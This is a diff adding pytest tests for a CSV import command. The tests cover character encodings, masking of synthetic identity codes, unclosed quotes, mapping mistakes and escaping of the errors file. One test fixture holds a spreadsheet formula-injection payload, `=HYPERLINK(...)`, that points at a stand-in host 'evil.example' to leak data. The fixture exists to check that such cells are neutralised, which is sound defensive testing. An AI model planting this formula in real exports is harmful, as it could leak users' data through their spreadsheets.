@@ -1,6 +1,8 @@
 """`jatkumo import` given hostile or careless input (attack, 2026-12-04): every mistake is one
 usage error (exit 2) that says what to do, never a traceback, and no existing file is lost."""
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -192,3 +194,191 @@ def test_a_reader_that_stops_reading_standard_output_is_no_traceback(tmp_path: P
     stderr = proc.stderr.read().decode()
     assert proc.wait(timeout=120) == 1
     assert "Traceback" not in stderr and "closed it" in stderr, stderr
+
+
+# A hunt (2026-12-06): what a careless export or mapping did without a word.
+
+CODE = "050395\u2013912K"  # a (synthetic) identity code written with an en dash, as Word does
+MASK = "******-****"
+HEADER = b"client_id;contract_id;date;present\n"
+
+
+@pytest.mark.parametrize(("rows", "bad"), [
+    # the code in a contract id, the stray byte on another line
+    ([f"c1;Asiakas {CODE};1.2.2024;k".encode(), b"c2;K-2\x96b;2.2.2024;k"],
+     "identity_code_in_payload.contract_id"),
+    # the code in a date cell, which the reason quotes
+    ([f"c1;K-1;{CODE};k".encode(), b"c2;K-2\x96b;2.2.2024;k"], f"'{MASK}' is not a date"),
+    # the stray byte on the code's own line
+    ([b"c1;K-1\x96b;" + CODE.encode() + b";k", b"c2;K-2;2.2.2024;k"], f"'{MASK}' is not a date"),
+], ids=["contract-id", "date-cell", "same-line"])
+def test_one_windows_1252_byte_leaves_an_identity_code_in_utf8_for_the_door(
+        tmp_path: Path, rows: list[bytes], bad: str) -> None:
+    """Before: one Windows-1252 byte had the whole UTF-8 file read as Windows-1252: every
+    ä of it became `Ã¤`, and the en dash `â€“`, which no one read as a code: written into
+    the events (exit 0), or on stderr and in --errors as it was."""
+    export = tmp_path / "export.csv"
+    export.write_bytes(HEADER + b"\n".join(rows) + "\nc3;K-3;31.2.2024;k\n"
+                       "c4;Kesä 2024;3.2.2024;kyllä\n".encode())
+    out, errors = tmp_path / "o.jsonl", tmp_path / "e.csv"
+    done = _import(export, "--out", str(out), "--errors", str(errors))
+    assert done.returncode == 0, done.stderr
+    written = out.read_text(encoding="utf-8") + done.stderr + errors.read_text(encoding="utf-8")
+    assert "050395" not in written and "912K" not in written, written
+    assert f"{export}:2: {bad}" in done.stderr  # the line numbers are the file's
+    assert f"{export}:4: '31.2.2024' is not a day of the calendar" in done.stderr
+    events = [json.loads(x) for x in out.read_text().splitlines()]
+    assert [(e["client_id"], e["payload"]["contract_id"]) for e in events] == [
+        ("c2", rows[1].split(b";")[1].decode("cp1252")), ("c4", "Kesä 2024")]
+    assert "(utf-8, windows-1252 on line" in done.stderr
+    assert "2 events written, 2 bad rows" in done.stderr
+
+
+def test_a_line_that_shows_a_code_only_in_utf8_is_read_so_when_no_other_line_is() -> None:
+    """The stray byte on the code's line, and no other line of more than ASCII to tell that
+    the file is UTF-8: Windows-1252 hid the code (`050395â€“912K`) from anyone reading for
+    one; the reading that shows it is the one the door is given."""
+    from services.importer.table import decode
+
+    text, _ = decode(HEADER + b"c1;K-1\x96b;Asiakas " + CODE.encode() + b";k\n")
+    assert f"K-1\u2013b;Asiakas {CODE};k" in text, text
+
+
+def test_a_file_of_windows_1252_is_read_as_windows_1252(tmp_path: Path) -> None:
+    export = tmp_path / "export.csv"
+    export.write_bytes(HEADER + "c1;Kesä–Syys;1.2.2024;kyllä\n".encode("cp1252"))
+    out = tmp_path / "o.jsonl"
+    done = _import(export, "--out", str(out))
+    assert done.returncode == 0 and "(windows-1252, ';')" in done.stderr, done.stderr
+    assert json.loads(out.read_text())["payload"]["contract_id"] == "Kesä–Syys"
+
+
+def test_a_byte_order_mark_before_windows_1252_is_no_column_name(tmp_path: Path) -> None:
+    """Before: the BOM was read as Windows-1252 with the rest, and the mapping was blamed for
+    a column 'ï»¿client_id'."""
+    export = tmp_path / "export.csv"
+    export.write_bytes(b"\xef\xbb\xbf" + HEADER + b"c1;K-\xc4;1.2.2024;k\n")
+    out = tmp_path / "o.jsonl"
+    done = _import(export, "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    event = json.loads(out.read_text())
+    assert (event["client_id"], event["payload"]["contract_id"]) == ("c1", "K-\u00c4")
+
+
+@pytest.mark.parametrize(("text", "line"), [
+    ('c0;"K-0;1.2.2024;k\n' + "".join(f"c{i};K-{i};{i}.2.2024;k\n" for i in range(1, 51)), 2),
+    ('c1;K-1;1.2.2024;k\nc2;"K-2\nb";2.2.2024;k\nc3;K-3;3.2.2024;"k\nc4;K-4;4.2.2024;k\n', 5),
+    # a row of two lines (3 and 4) whose second quoted cell opens on line 4
+    ('c1;K-1;1.2.2024;k\nc2;"K-2\nb";"2.2.2024;k\nc3;K-3;3.2.2024;k\n', 4),
+    ('c1;K-1;1.2.2024;k\nc2;K-2;2.2.2024;"k""\n', 3),  # the last quote is one of the cell
+], ids=["fifty-rows-after", "after-a-cell-of-two-lines", "in-a-row-of-two-lines",
+        "doubled-quote"])
+def test_a_quote_never_closed_is_a_usage_error_that_names_its_line(
+        tmp_path: Path, text: str, line: int) -> None:
+    """Before: the rest of the file was one cell: `:2: '' is not a date`, "1 rows", and the
+    50 rows after it lost without a word. Where the cell was to end no one can tell: the
+    import stops rather than guess, and once corrected it is taken again at no cost."""
+    export = _export(tmp_path, "client_id;contract_id;date;present\n" + text)
+    out = tmp_path / "o.jsonl"
+    _refused(_import(export, "--out", str(out)),
+             f"{export}:{line}: a quote opened on line {line} is never closed")
+    assert not out.exists()
+
+
+def test_a_quote_closed_on_a_later_line_makes_a_bad_row_not_a_lost_one(tmp_path: Path) -> None:
+    """Before: row 3 went into the contract id of row 2 (`K-0;1.2.2024;k\\nc1;K-1`), and the
+    import said "2 events written, 0 bad rows"."""
+    export = _export(tmp_path, 'client_id;contract_id;date;present\n'
+                               'c0;"K-0;1.2.2024;k\nc1;K-1";2.2.2024;k\nc2;K-2;3.2.2024;k\n')
+    out = tmp_path / "o.jsonl"
+    done = _import(export, "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    assert f"{export}:2: the contract_id cell runs over a line end" in done.stderr
+    assert [json.loads(x)["client_id"] for x in out.read_text().splitlines()] == ["c2"]
+
+
+CONTRACTS = ("client_id;contract_id;service;organizer;producer_id;producer_kind;"
+             "producer_municipality;start_date;Loppupäivä;Syy\n"
+             "c1;K-1;KTT;municipality:564;paja-1;municipal;564;1.9.2022;31.12.2022;completed\n")
+TWO_DATES = "client_id;contract_id;date;Paiva;present\nc1;K-1;1.1.2024;5.1.2024;k\n"
+
+
+@pytest.mark.parametrize(("kind", "export_text", "mapping", "words"), [
+    ("contracts", CONTRACTS, '[contracts]\nend_date = "Loppupaiva"\nend_reason = "Syy"\n',
+     ["end_date = 'Loppupaiva'", "did you mean 'Loppupäivä'"]),
+    ("attendance", TWO_DATES, '[attendence]\ndate = "Paiva"\n',
+     ["[attendence]", "did you mean [attendance]"]),
+    ("attendance", TWO_DATES, 'date = "Paiva"\n', ["date outside a table"]),
+    ("attendance", TWO_DATES, '[contracts]\nstart_date = "Alkaa"\n', ["no [attendance] table"]),
+    ("attendance", TWO_DATES, '[attendance]\ndate = "Paiva"\n[attendance.constants]\n'
+     'date = "9.9.2024"\n', ["date in both [attendance] and [attendance.constants]"]),
+], ids=["misspelt-column", "misspelt-table", "outside-a-table", "no-table-of-the-kind",
+        "column-and-constant"])
+def test_a_mapping_mistake_is_a_usage_error_not_passed_over(
+        tmp_path: Path, kind: str, export_text: str, mapping: str, words: list[str]) -> None:
+    """Before: each was taken with exit 0: the misspelt column left out with its field (no
+    contract.ended), the misspelt table left for the default mapping (the date from `date`,
+    not `Paiva`), the constant taken over the column."""
+    export = _export(tmp_path, export_text)
+    (tmp_path / "m.toml").write_text(mapping, encoding="utf-8")
+    out = tmp_path / "o.jsonl"
+    done = cli("import", kind, str(export), "--source", "s", "--mapping",
+               str(tmp_path / "m.toml"), "--out", str(out))
+    _refused(done, str(tmp_path / "m.toml"), *words)
+    assert not out.exists()
+
+
+def test_an_export_with_both_client_columns_says_so_and_a_mapping_picks_one(
+        tmp_path: Path) -> None:
+    """Before: "finds no column for client_id or client_hetu", both being there."""
+    export = _export(tmp_path, "client_id;client_hetu;contract_id;date;present\n"
+                               "c1;131052-308T;K-1;1.1.2024;k\n")
+    out = tmp_path / "o.jsonl"
+    done = _import(export, "--out", str(out))
+    _refused(done, "both client_id (column 'client_id') and client_hetu", "--mapping",
+             'client_id = "client_id"')
+    assert "finds no column" not in done.stderr and "131052-308T" not in done.stderr
+    (tmp_path / "m.toml").write_text('[attendance]\nclient_id = "client_id"\n')
+    done = _import(export, "--mapping", str(tmp_path / "m.toml"), "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    assert json.loads(out.read_text())["client_id"] == "c1"
+    assert "131052-308T" not in out.read_text()
+
+
+def test_the_errors_file_is_csv_that_no_spreadsheet_runs(tmp_path: Path) -> None:
+    """Before: `line;reason` as it was: the reason quotes the cell, and the `;` in it opened
+    a cell `=HYPERLINK("http://evil.example/?leak","click")` in Excel; a reason with a `;`
+    had more cells than two."""
+    export = _export(tmp_path, 'client_id;contract_id;date;present\nc1;K-1;'
+                               '"x;=HYPERLINK(""http://evil.example/?leak"",""click"");";k\n'
+                               "c1;K-1;+1;k\n")
+    errors = tmp_path / "e.csv"
+    done = _import(export, "--out", str(tmp_path / "o.jsonl"), "--errors", str(errors))
+    assert done.returncode == 0, done.stderr
+    text = errors.read_text(encoding="utf-8")
+    for cell in (c.strip('"') for line in text.splitlines() for c in line.split(";")):
+        assert not cell.startswith(("=", "+", "-", "@")), text
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    assert [len(r) for r in rows] == [2, 2] and [r[0] for r in rows] == ["2", "3"], rows
+    assert 'HYPERLINK("http://evil.example/?leak","click")' in rows[0][1]
+    assert "is not a date" in rows[1][1]
+
+
+def test_errors_dash_is_standard_output_as_for_out(tmp_path: Path) -> None:
+    """Before: --errors - wrote a file named `-`, where --out - is standard output."""
+    export = _export(tmp_path, EXPORT + "c1;k1;99.5.2024;k\n")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("JATKUMO_")}
+    env["PYTHONPATH"] = str(ROOT)
+
+    def run(*args: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run([sys.executable, "-m", "services.cli", "import", "attendance",
+                               export.name, "--source", "s", *args], capture_output=True,
+                              text=True, cwd=tmp_path, env=env, timeout=120)
+
+    done = run("--out", "o.jsonl", "--errors", "-")
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == "4;'99.5.2024' is not a day of the calendar\n"
+    assert not (tmp_path / "-").exists() and len((tmp_path / "o.jsonl").read_text().split()) == 2
+    both = run("--out", "-", "--errors", "-")
+    _refused(both, "both name standard output")
+    assert both.stdout == "" and not (tmp_path / "-").exists()
